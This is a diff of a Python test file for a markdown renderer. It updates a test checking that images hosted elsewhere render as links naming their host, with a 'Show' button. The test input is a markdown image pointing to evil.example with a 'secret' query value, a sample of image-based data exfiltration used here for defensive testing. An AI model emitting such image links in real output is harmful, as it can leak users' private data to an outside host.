@@ -125,7 +125,8 @@ def test_money_and_variables_are_no_formulas(text: str) -> None:
 
 def test_pictures_from_elsewhere_become_links_that_name_the_host() -> None:
     shown = markdown("![a chart](https://evil.example/x.png?q=secret)", WORDS)
-    assert shown == "[a chart, picture at evil.example](https://evil.example/x.png?q=secret)"
+    show = '<a class="p-do p-picture" role="button" href="#do-picture">Show</a>'
+    assert shown == f"[a chart, picture at evil.example](https://evil.example/x.png?q=secret) {show}"
 
 
 @pytest.mark.parametrize(
